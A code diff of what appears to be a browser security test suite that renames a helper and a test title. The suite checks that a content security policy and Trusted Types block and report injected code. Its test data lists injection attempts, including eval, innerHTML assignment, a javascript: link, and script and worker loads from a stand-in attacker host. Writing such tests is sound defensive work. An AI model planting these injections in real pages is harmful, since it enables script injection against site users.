@@ -37,7 +37,7 @@ const MARKUP: readonly Attempt[] = [
  * Returns an attempt to use a string where the browser requires a trusted value. Only a few
  * functions are tried, because browsers decide which functions require a trusted value.
  */
-const untrusted = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
+const untrustedAttempt = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
 /** Attempts of injected code that already runs. Each `name` is the body of a function. */
 const CODE: readonly Attempt[] = [
@@ -52,10 +52,10 @@ const CODE: readonly Attempt[] = [
     `${EVIL}/form`,
   ),
   attempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
-  untrusted(`make('div').innerHTML = '<b>x</b>'`),
-  untrusted(`eval('ran.push("eval")')`),
-  untrusted(`make('script').src = '${EVIL}/s.js'`),
-  untrusted(`new Worker('${EVIL}/w.js')`),
+  untrustedAttempt(`make('div').innerHTML = '<b>x</b>'`),
+  untrustedAttempt(`eval('ran.push("eval")')`),
+  untrustedAttempt(`make('script').src = '${EVIL}/s.js'`),
+  untrustedAttempt(`new Worker('${EVIL}/w.js')`),
   attempt(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
 ]
 
@@ -121,7 +121,7 @@ test('injected markup is blocked and reported, and the app still works', async (
   await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
 })
 
-test('the next steps of injected code are blocked and reported', async ({ page }) => {
+test('attempts of injected code that already runs are blocked and reported', async ({ page }) => {
   const outsideRequests = await openWith(page, '')
   expect(await page.evaluate(() => held)).toEqual([])
   for (const { name, directive, blocked } of CODE)
